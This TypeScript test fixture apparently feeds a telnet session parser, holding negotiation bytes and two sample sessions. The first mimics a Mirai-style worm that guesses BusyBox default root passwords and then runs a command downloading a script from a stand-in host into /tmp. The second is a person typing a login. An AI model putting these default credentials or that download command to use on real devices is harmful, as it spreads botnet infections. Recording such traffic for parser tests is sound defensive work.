import { dialogue, type Message } from "../stream-drive.ts";

/** IAC DO ECHO, IAC DO NAWS, IAC WILL ECHO, IAC WILL SGA */
export const OFFER = "< \xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03";
/** IAC WONT ECHO, IAC WILL NAWS, IAC SB NAWS 0 80 0 24 IAC SE, IAC DO ECHO */
export const REPLY = "> \xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01";

/** A worm: two tries, then a shell and its first commands. */
export const wormSession: readonly string[] = [
  OFFER,
  REPLY,
  "< \r\nBusyBox login: ",
  "> root\r\n",
  "< root\r\nPassword: ",
  "> 54321\r\n",
  "< \r\nLogin incorrect\r\nBusyBox login: ",
  "> root\r\n",
  "< root\r\nPassword: ",
  "> xc3511\r\n",
  "< \r\n\r\nBusyBox v1.12.4 built-in shell (ash)\r\n# ",
  "> enable\r\n",
  "< enable\r\n-sh: enable: not found\r\n# ",
  "> /bin/busybox MIRAI; cd /tmp; wget http://192.0.2.9/a.sh\r\n",
  "< MIRAI: applet not found\r\n# ",
];

/** A person who types key by key, with the server's echo, and corrects a slip. */
export const typedSession: readonly string[] = [
  "< NetGear login: ",
  ..."adm".split("").flatMap((key) => [`> ${key}`, `< ${key}`]),
  "> x",
  "< x",
  "> \x7f",
  "< \x08 \x08",
  "> i",
  "< i",
  "> n",
  "< n",
  "> \r\x00",
  "< \r\nPassword: ",
  ..."secret7".split("").map((key) => `> ${key}`),
  "> \r\x00",
  "< \r\nLast failed login: Mon\r\nWelcome\r\nadmin@box:~$ ",
  "> e",
  "< e",
  "> xit\r\n",
];

export const samples: Message[][] = [dialogue(...wormSession), dialogue(...typedSession)];
